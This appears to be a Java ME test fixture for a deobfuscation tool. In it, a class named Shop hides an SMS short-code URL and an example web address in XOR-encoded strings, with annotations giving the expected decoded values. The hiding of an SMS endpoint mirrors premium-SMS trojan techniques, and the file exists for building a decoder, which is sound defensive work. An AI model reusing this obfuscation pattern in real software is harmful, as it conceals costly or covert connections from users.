package decoders;

import javax.microedition.io.Connector;

/** A class whose literals an obfuscator has moved into an array that the static initialiser decodes. */
class Shop {
    private static final String[] z;

    static {
        String[] hidden = {"t R(t(z\020&j", "o9Uba(bDj:j=Mwud\"L=", "t9Nb"};
        z = new String[hidden.length];
        for (int n = 0; n < hidden.length; n++) {
            char[] c = hidden[n].toCharArray();
            for (int i = 0; i < c.length; i++) {
                char key;
                switch (i % 5) {
                    case 0:
                        key = 7;
                        break;
                    case 1:
                        key = 77;
                        break;
                    case 2:
                        key = 33;
                        break;
                    case 3:
                        key = 18;
                        break;
                    default:
                        key = 91;
                }
                c[i] = (char) (c[i] ^ key);
            }
            z[n] = new String(c).intern();
        }
    }

    //# literals-decoded-in-the-static-initialiser
    void open() throws Exception {
        Connector.open(z[0]); //= url="sms://7141" decoded=url
        Connector.open(z[1] + z[2]); //= url="http://example.com/stop" decoded=url
    }
}
